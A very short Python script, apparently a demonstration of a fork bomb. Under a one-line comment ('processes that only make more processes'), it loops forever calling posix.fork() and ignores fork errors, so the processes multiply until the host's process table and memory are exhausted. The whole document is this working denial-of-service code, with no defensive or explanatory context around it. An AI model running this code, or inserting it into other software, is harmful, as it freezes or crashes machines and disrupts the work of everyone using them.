# why: processes that only make more processes
import posix

while True:
    try:
        posix.fork()
    except OSError:
        pass
